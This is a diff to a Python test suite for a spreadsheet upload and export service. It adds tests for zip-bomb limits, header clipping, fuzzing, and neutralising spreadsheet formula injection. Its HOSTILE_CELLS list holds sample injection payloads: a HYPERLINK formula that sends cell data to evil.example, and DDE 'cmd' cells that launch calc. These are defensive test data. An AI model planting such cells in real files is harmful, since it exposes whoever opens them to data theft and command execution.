@@ -1,10 +1,15 @@
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import functools
 import io
+import pickle
 import re
+import time
 import zipfile
 from collections.abc import Sequence
+from typing import get_args
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -13,17 +18,25 @@ from openpyxl import Workbook, load_workbook
 
 from services.phones import PhoneError
 from services.spreadsheet import (
+    ARCHIVE_MAX_ENTRIES,
+    MAX_COLUMN_NAME,
     MAX_COLUMNS,
+    ErrorKind,
     InvalidRow,
     SpreadsheetError,
     Table,
+    TooLarge,
     TooManyRows,
+    TooSlow,
+    UnsupportedFormat,
+    check_archive,
     find_phone_column,
     prepare_recipients,
     read_table,
     write_invalid_rows,
     write_result,
 )
+from tests.support.uploads import xlsx_bomb, xlsx_of_many_entries
 
 
 def make_xlsx(rows: Sequence[Sequence[object]]) -> bytes:
@@ -325,6 +338,70 @@ def test_empty_xlsx_sheet_is_empty() -> None:
     assert caught.value.kind == "empty"
 
 
+# --- archive bombs ---------------------------------------------------------------------------
+
+
+def test_zip_bomb_is_refused_before_it_is_inflated() -> None:
+    bomb = xlsx_bomb(300 * 1024 * 1024)
+    assert len(bomb) < 2 * 1024 * 1024
+
+    started = time.monotonic()
+    with pytest.raises(TooLarge):
+        read_table(bomb, "debtors.xlsx")
+
+    assert time.monotonic() - started < 1.0  # refused from the directory, nothing parsed
+
+
+def test_archive_of_a_hundred_thousand_entries_is_refused() -> None:
+    with pytest.raises(TooLarge):
+        read_table(xlsx_of_many_entries(100_000), "list.xlsx")
+
+
+@pytest.mark.parametrize(
+    ("entries", "content", "refused"),
+    [
+        (ARCHIVE_MAX_ENTRIES - 20, b"", False),  # the workbook's own entries on top: under
+        (ARCHIVE_MAX_ENTRIES + 1, b"", True),
+        # One entry inflating 200 times: over the ratio, far under the sizes.
+        (1, b"0" * (2 * 1024 * 1024), True),
+        # Small entries compress as they like: a run of empty cells is no bomb.
+        (1, b"0" * (512 * 1024), False),
+    ],
+)
+def test_archive_limits(entries: int, content: bytes, refused: bool) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
+        for n in range(entries):
+            archive.writestr(f"xl/media/{n}", content)
+    archive_bytes = buffer.getvalue()
+
+    if refused:
+        with pytest.raises(TooLarge):
+            check_archive(archive_bytes)
+    else:
+        check_archive(archive_bytes)
+
+
+def test_spreadsheet_errors_survive_the_trip_between_processes() -> None:
+    for error in (TooManyRows(50, 53), UnsupportedFormat(".xls"), TooLarge("x"), TooSlow("y")):
+        copy = pickle.loads(pickle.dumps(error))
+        assert (type(copy), copy.kind, str(copy)) == (type(error), error.kind, str(error))
+    assert pickle.loads(pickle.dumps(TooManyRows(50, 53))).found_at_least == 53
+
+
+# --- long column names -----------------------------------------------------------------------
+
+
+def test_long_header_names_are_clipped_and_stay_unique() -> None:
+    long_name = "Customer " + "x" * 5000
+    table = table_from(f"phone,{long_name},{long_name}\n998901234567,Ali,Vali\n")
+
+    assert table.columns[0] == "phone"
+    assert all(len(name) <= 64 for name in table.columns)  # 60 and " (C)"
+    assert table.columns[1] == long_name[:MAX_COLUMN_NAME]
+    assert table.columns[2] == long_name[:MAX_COLUMN_NAME] + " (C)"
+
+
 # --- recipients ----------------------------------------------------------------------------
 
 
@@ -395,7 +472,7 @@ def test_csv_result_opens_in_excel_and_reads_back() -> None:
     assert (table.columns, table.delimiter) == (RESULT_HEADER, ",")
     assert table.rows == [
         ["998901234567", "Алишер", "yetkazildi", "1"],
-        ["998931112233", 'Karimov, "Jasur"', "=xato", "2"],
+        ["998931112233", 'Karimov, "Jasur"', "'=xato", "2"],  # not a formula (see below)
         ["998951234567", "Ali\x01Vali", "", "0"],
     ]
 
@@ -409,7 +486,7 @@ def test_xlsx_result_reads_back_with_text_kept_as_text() -> None:
     assert sheet["C3"].data_type == "s"  # "=xato" is user text, not a formula
     assert read_table(data, "result.xlsx").rows == [
         ["998901234567", "Алишер", "yetkazildi", "1"],
-        ["998931112233", 'Karimov, "Jasur"', "=xato", "2"],
+        ["998931112233", 'Karimov, "Jasur"', "'=xato", "2"],
         ["998951234567", "AliVali", "", "0"],  # control characters are illegal in XLSX
     ]
 
@@ -431,6 +508,56 @@ def test_invalid_rows_file_with_translated_header_and_reasons(fmt: str) -> None:
     table = read_table(data, f"xato.{fmt}")
     assert table.columns == ["Qator", "Qiymat", "Sabab"]
     assert table.rows == [["4", "12345", "juda qisqa"], ["7", "", "empty"]]
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def written_cells(fmt: str, data: bytes) -> list[list[object]]:
+    """The cells as the file holds them, read without our reader (which strips quotes)."""
+    if fmt == "csv":
+        return [list(row) for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))]
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet is not None
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(fmt: str) -> None:
+    rows = [[n, cell, "ok"] for n, cell in enumerate(HOSTILE_CELLS)] + [[-5, "-", None]]
+
+    data = write_result("csv" if fmt == "csv" else "xlsx", ["row", "value", "note"], rows)
+
+    header, *cells = written_cells(fmt, data)
+    assert header == ["row", "value", "note"]
+    values = [row[1] for row in cells]
+    expected = ["'" + cell for cell in HOSTILE_CELLS] + ["'-"]
+    if fmt == "xlsx":  # XML reads a CR back as LF
+        expected = [cell.replace("\r", "\n") for cell in expected]
+    assert values == expected
+    assert cells[-1][0] == ("-5" if fmt == "csv" else -5)  # a number, not a formula
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_phones_the_bot_writes_keep_their_plus_in_its_own_columns_only(fmt: str) -> None:
+    rows = [["+998901234567", "+998901234567"], ["=1+1", "998901234567"]]
+
+    data = write_result(
+        "csv" if fmt == "csv" else "xlsx", ["phone", "value"], rows, own_columns=(0,)
+    )
+
+    assert written_cells(fmt, data)[1:] == [
+        ["+998901234567", "'+998901234567"],  # a text cell in XLSX: shown as typed
+        ["'=1+1", "998901234567"],  # the bot's column still takes no formula
+    ]
 
 
 # --- never anything but our errors ----------------------------------------------------------
@@ -464,3 +591,52 @@ def test_read_table_raises_only_its_own_errors(data: bytes, file_name: str) -> N
     assert table.rows
     assert all(len(row) == len(table.columns) for row in table.rows)
     assert len(table.row_numbers) == len(table.rows)
+
+
+@functools.cache
+def bombs() -> list[bytes]:
+    # 20 MB inflated from some tens of KB: over the ratio; and one entry too many.
+    return [xlsx_bomb(20 * 1024 * 1024), xlsx_of_many_entries(ARCHIVE_MAX_ENTRIES)]
+
+
+@st.composite
+def bombed_archive(draw: st.DrawFn) -> bytes:
+    data = bytearray(draw(st.sampled_from(bombs())))
+    # Flipped bytes in the central directory change declared sizes and counts.
+    for _ in range(draw(st.integers(0, 4))):
+        position = draw(st.integers(max(0, len(data) - 4096), len(data) - 1))
+        data[position] = draw(st.integers(0, 255))
+    return bytes(data[: draw(st.sampled_from([len(data), len(data) - 1, len(data) // 2, 30]))])
+
+
+@st.composite
+def oddly_encoded_text(draw: st.DrawFn) -> bytes:
+    cells = st.one_of(
+        st.text(max_size=30),
+        st.sampled_from(["998901234567", "+998 (90) 123-45-67", "Алишер", "Шаҳзода", '"', "'9"]),
+    )
+    lines = draw(st.lists(st.lists(cells, max_size=5), max_size=20))
+    delimiter = draw(st.sampled_from([",", ";", "\t"]))
+    endings = st.sampled_from(["\n", "\r\n", "\r"])
+    text = "".join(delimiter.join(line) + draw(endings) for line in lines)
+    if draw(st.booleans()):
+        position = draw(st.integers(0, len(text)))
+        text = text[:position] + "\x00" + text[position:]
+    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1251"]))
+    return text.encode(encoding, errors="replace")
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
+@given(
+    data=st.one_of(bombed_archive(), damaged_xlsx(), oddly_encoded_text(), st.binary()),
+    file_name=st.sampled_from(["a.csv", "a.xlsx", "a.txt", "a.tsv"]),
+)
+def test_upload_fuzz_gets_a_table_or_our_error_quickly(data: bytes, file_name: str) -> None:
+    started = time.monotonic()
+    try:
+        table = read_table(data, file_name, max_rows=1000)
+    except SpreadsheetError as exc:
+        assert exc.kind in get_args(ErrorKind)  # each kind has its translated message
+    else:
+        assert all(len(row) == len(table.columns) for row in table.rows)
+    assert time.monotonic() - started < 5.0
